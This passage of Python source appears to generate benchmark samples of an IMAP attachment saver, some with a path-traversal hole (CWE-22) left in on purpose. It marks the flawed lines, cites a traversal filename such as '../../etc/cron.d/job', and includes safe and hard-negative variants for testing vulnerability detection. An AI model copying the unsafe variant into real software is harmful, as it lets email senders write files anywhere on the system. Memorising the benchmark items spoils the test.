                  "    for part in msg.walk():\n        if part.get_content_disposition() != \"attachment\":\n            continue")
    path_shape = c.pick("pathlib", "ospath")
    fix = c.pick("basename", "name")
    if safe:
        clean = ("        name = os.path.basename(name.replace(\"\\\\\", \"/\"))" if fix == "basename"
                 else "        name = Path(name.replace(\"\\\\\", \"/\")).name")
        guard = "        if name in (\"\", \".\", \"..\"):\n            continue\n"
        pre = clean + "\n" + guard
        m = ""
    else:
        pre, m = "", "  #@V"
    if path_shape == "pathlib":
        tgt = f"        target = INBOX_DIR / name{m}\n        target.write_bytes(data){m}"
    else:
        tgt = (f"        target = os.path.join(INBOX_DIR, name){m}\n"
               f"        with open(target, \"wb\") as fh:{m}\n            fh.write(data)")
    fetch = _IMAPLIB_FETCH if lib == "imaplib" else _IMAPCLIENT_FETCH
    t = _IMAP.replace("$fetch", dedent(fetch).strip("\n") + "\n\n\n" + dedent(_IMAP_MAIN).strip("\n"))
    return sub(t, clientimp=clientimp, loop=loop, target=pre + tgt, w=w, W=W, box=c.pick("intake", "scans", "invoices"),
               box_folder=c.pick("INBOX", "INBOX.Intake"), domain=c.pick("example.com", f"{w}s.example.org"),
               ENV=f"{w.upper()}_INBOX", maxmb=c.pick(10, 20, 25), interval=c.pick(30, 60))


@fam("mod7-imap-attachment-filename-write", "CWE-22", fws=["pipeline"], n=8, wrap=False)
def mod7_imap_attachment_filename_write(c):
    v, s = _replayed(c, _imap)
    return Spec(v=v, s=s, full=True, fw="pipeline",
                notes="the attachment's file name comes from the sender's MIME headers (Content-Disposition "
                      "filename) and is joined to the inbox directory as is; a name like '../../etc/cron.d/job' or "
                      "an absolute path writes outside the inbox (os.path.join and Path '/' both drop the base for "
                      "an absolute name). The fix keeps only the last path component and skips empty, '.' and '..'")


@hardneg(2)
def mod7_imap_attachment_filename_write_hn(c):
    s = _imap(c, True)
    s = s.replace("def save_attachments(", dedent(r'''
        def _unique(path: Path) -> Path:
            """A free name next to ``path`` (report.pdf, report-1.pdf, ...)."""
            n, candidate = 0, path
            while candidate.exists():
                n += 1
                candidate = path.with_name(f"{path.stem}-{n}{path.suffix}")
            return candidate


    ''').lstrip("\n") + "def save_attachments(", 1)
    return Spec(s=s, full=True, fw="pipeline",
                notes="attachment names reduced to their last component before they are joined to the inbox")
